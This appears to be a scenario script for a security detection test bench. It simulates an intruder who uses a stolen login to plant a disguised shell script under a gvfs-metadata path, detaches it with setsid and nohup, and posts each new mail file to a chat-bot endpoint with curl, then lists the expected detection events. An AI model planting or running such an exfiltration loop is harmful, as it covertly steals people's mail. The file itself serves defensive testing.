title="A loop left behind posts every new letter to a chat bot, for days"
what="With dev's stolen login a small shell script is written to ~/.local/share/gvfs-metadata/sync and started with setsid and nohup: it looks for letters newer than its stamp every few seconds and posts each to a bot's address with curl. It goes on for two days while dev works and mail arrives."
user=dev daemons="cron sshd"
shift_plan="usual:1d run:2d"
act() {
  phase usual
  small_talk 8
  mail_in --from 'lead%n@example.net' --to dev@example.org --subject 'Release %n' --count 3 --text "The plan for the release, see below.\n"
  phase run
  ssh_as dev <<'L'
mkdir -p .local/share/gvfs-metadata
cat > .local/share/gvfs-metadata/sync <<'X'
%line #!/bin/bash
%line cd ~/.local/share/gvfs-metadata; touch -d 2000-01-01 .s
%line while :; do touch .n; find ~/Maildir/new ~/Maildir/cur -type f -newer .s | while read -r f; do curl -s -m 20 -F chat_id=-100 -F "document=@$f" http://chat.example.com/bot77:AA/sendDocument >/dev/null; done; mv .n .s; sleep 2; done
X
chmod +x .local/share/gvfs-metadata/sync
setsid nohup .local/share/gvfs-metadata/sync >/dev/null 2>&1 &
exit
L
  local i
  for i in 1 2 3 4 5 6; do
    mail_in --from "partner$i@example.net" --to dev@example.org --subject "Question $i" --text "A question about part $i.\n" --source 203.0.113.1$i --helo host1$i.example.net
    small_talk 2
    sleep 2.5
  done
  sleep 3
}
truth() {
  exec_step start 'nohup .local/share/gvfs-metadata/sync' 'the loop is started'
  exec_step post 'curl -s -m 20 -F chat_id' 'a letter is posted'
  net_step out 'curl 203.0.113.82:80' 'to the bot'
  mail_step later 'from=<partner5@example.net>' 'new mail days later'
  exec_step again 'curl -s -m 20 -F chat_id' 'is posted too'
}
